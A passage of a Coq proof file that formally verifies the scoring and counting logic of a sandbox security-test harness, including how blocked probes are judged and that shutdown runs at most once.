  \/ blocking_signal (full_text MoreSamples.denied_result).
Proof.
  apply (blocked_pass_has_a_cause Samples.sudo_test MoreSamples.denied_result);
    vm_compute; reflexivity.
Defined.

(** X26.  When the stripped stdout+stderr text has at most 200
    characters, a blocked probe is scored PASS exactly when the exit
    status is nonzero or the text holds one of the five markers, case
    ignored. *)
Theorem blocked_rule_holds_for_short_text (t : Test) (r : ExecutionResult) :
  expect t = "blocked" ->
  (String.length (combined r) <= 200)%nat ->
  verdict t r = Passed
  <-> exit_status r <> 0%Z \/ blocking_signal (full_text r).
Proof. exact (ClassifierFacts.blocked_rule_short_output t r). Qed.

Lemma blocked_rule_witness :
  verdict Samples.sudo_test MoreSamples.denied_result = Passed
  <-> exit_status MoreSamples.denied_result <> 0%Z
      \/ blocking_signal (full_text MoreSamples.denied_result).
Proof.
  apply (blocked_rule_holds_for_short_text Samples.sudo_test
           MoreSamples.denied_result).
  - reflexivity.
  - vm_compute. repeat constructor.
Defined.

(** ** The run on a console that can raise (lines 286-397) *)

(** X29.  On any console a run calls [shutdown] at most once, and not at
    all unless the [try] of line 292 was entered.  Once it is entered,
    the call is left out only when the [print] of line 395 raises, and
    then the exception of that [print] is the outcome of the run. *)
Theorem shutdown_is_called_at_most_once (c : Console) (w : World)
    (catalog : Catalog) (fuel : nat) :
  (count is_shutdown (snd (Full.run_on c w catalog fuel)) <= 1)%nat
  /\ (~ Full.try_entered (snd (Full.run_on c w catalog fuel)) ->
      count is_shutdown (snd (Full.run_on c w catalog fuel)) = 0%nat)
  /\ (Full.try_entered (snd (Full.run_on c w catalog fuel)) ->
      count is_shutdown (snd (Full.run_on c w catalog fuel)) = 0%nat ->
      exists h e,
        print_answer c h Full.cleanup_banner = Raises e
        /\ fst (Full.run_on c w catalog fuel) = Raise e).
Proof.
  unfold Full.run_on.
  destruct (FullFacts.main_shutdowns c w catalog fuel []) as (L & N & T).
  split; [exact L|]. split.
  - exact N.
  - intros H Z. destruct (T H) as [[O _] | [_ R]]; [|exact R].
    rewrite Z in O. discriminate.
Qed.

(** X30.  When the probe loop returns, the three counters add up to the
    number of tests plus the errors that no failed call accounts for;
    that surplus is never negative, and it is zero on a console that
    never raises. *)
Theorem counters_add_up_to_the_probes_and_more (c : Console) (w : World)
    (catalog : Catalog) (id : string) (h : trace) (results : Results) :
  fst (Full.security_tests c w catalog id h) = Done results ->
  (total results
   = Z.of_nat (List.length (all_tests catalog))
     + (errors results
        - Z.of_nat (count is_raised (snd (Full.security_tests c w catalog id h)))))%Z
  /\ (Z.of_nat (List.length (all_tests catalog)) <= total results)%Z
  /\ (Full.quiet c -> total results = Z.of_nat (List.length (all_tests catalog))).
Proof.
  intros H.
  destruct (FullFacts.security_tests_total c w catalog id h results H)
    as (T & P & Q).
  split; [exact T|]. split; [lia | exact Q].
Qed.

Lemma counters_add_up_witness :
  (total (mkResults 13 7 1)
   = Z.of_nat (List.length (all_tests SECURITY_TESTS))
     + (errors (mkResults 13 7 1)
        - Z.of_nat (count is_raised
                      (snd (Full.security_tests Consoles.console_ascii
                              Consoles.world_accent SECURITY_TESTS "dbx_1" [])))))%Z
  /\ (Z.of_nat (List.length (all_tests SECURITY_TESTS)) <= total (mkResults 13 7 1))%Z.
Proof.
  destruct (counters_add_up_to_the_probes_and_more Consoles.console_ascii
              Consoles.world_accent SECURITY_TESTS "dbx_1" [] (mkResults 13 7 1))
    as (H1 & H2 & _); [vm_compute; reflexivity|].
  split; [exact H1 | exact H2].
Defined.
